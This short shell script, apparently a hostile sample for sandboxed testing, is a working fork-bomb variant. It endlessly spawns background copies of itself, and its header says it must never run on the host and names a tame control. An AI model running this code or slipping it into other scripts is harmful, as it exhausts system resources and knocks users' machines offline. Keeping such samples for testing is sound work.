# The classic, with a marker on each command line: MARKER. Never run on the host:
# `fork_many.py` is its tame control.
bomb() { bash "$0" "$1" & bash "$0" "$1" & }
while :; do bomb "$1"; done 2>/dev/null
